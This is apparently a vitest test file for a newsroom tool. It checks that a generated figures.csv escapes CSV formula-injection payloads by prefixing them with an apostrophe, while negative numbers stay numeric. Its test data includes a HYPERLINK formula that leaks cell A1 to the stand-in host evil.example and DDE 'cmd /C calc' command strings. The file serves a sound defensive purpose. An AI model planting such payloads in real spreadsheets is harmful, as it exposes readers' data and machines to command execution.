/**
 * CSV formula injection (issue 15, item 4): newsrooms open figures.csv in Excel, so a cell
 * the data controls (a force or region name, a source) must never start a formula. Text cells
 * beginning with =, +, -, @, a tab or a carriage return get a leading apostrophe; numbers are
 * written as numbers, so a fall of -3 stays -3.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { computeCampaign } from '../../src/compute/index.ts';
import { loadProject } from '../../src/load/index.ts';
import { figuresCsv } from '../../src/site/downloads.ts';
import { FIXTURES } from '../site/helpers.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const root = mkdtempSync(path.join(tmpdir(), 'localpress-csv-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** The basic fixture with hostile text in forces.yaml and figures.yaml. */
function hostileModel(payload: string) {
  const dir = path.join(root, String(PAYLOADS.indexOf(payload)));
  cpSync(path.join(FIXTURES, 'basic'), dir, { recursive: true });
  const forces = path.join(dir, 'forces.yaml');
  writeFileSync(forces, readFileSync(forces, 'utf8').replace('name: Derbyshire Constabulary', `name: ${JSON.stringify(payload)}`).replace('name: East Midlands', `name: ${JSON.stringify(payload)}`));
  const figures = path.join(dir, 'campaigns/fixture-grooming/figures.yaml');
  writeFileSync(figures, readFileSync(figures, 'utf8').replace('  derbyshire:\n', `  derbyshire:\n    source: ${JSON.stringify(payload)}\n`));
  const project = loadProject(dir);
  const input = project.campaigns[0]!;
  return computeCampaign({ campaign: input.campaign, figures: input.figures }, project.reference);
}

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('figures.csv never starts a formula', () => {
  for (const payload of PAYLOADS) {
    it(`neutralises ${JSON.stringify(payload.slice(0, 20))}`, () => {
      const model = hostileModel(payload);
      for (const csv of [figuresCsv(model.forces, model), figuresCsv(model.forces.filter((f) => f.id === 'derbyshire'), model)]) {
        const cells = (parse(csv) as string[][]).flat();
        const hostile = cells.filter((c) => c.includes(payload.trim()));
        expect(hostile.length).toBeGreaterThan(0);
        for (const cell of cells.filter((c) => !isNumber(c))) expect(cell, cell).not.toMatch(FORMULA_START);
        // The text is kept, behind an apostrophe that Excel shows and does not evaluate.
        for (const cell of hostile) expect(cell).toBe(`'${payload}`);
      }
    });
  }

  it('keeps negative numbers as numbers', () => {
    const model = hostileModel(PAYLOADS[0]!);
    const derbyshire = model.forces.find((f) => f.id === 'derbyshire')!;
    const csv = figuresCsv([{ ...derbyshire, youngest_victim_age: -3 }], model);
    expect((parse(csv) as string[][])[1]).toContain('-3');
  });
});

function isNumber(cell: string): boolean {
  return cell !== '' && Number.isFinite(Number(cell));
}
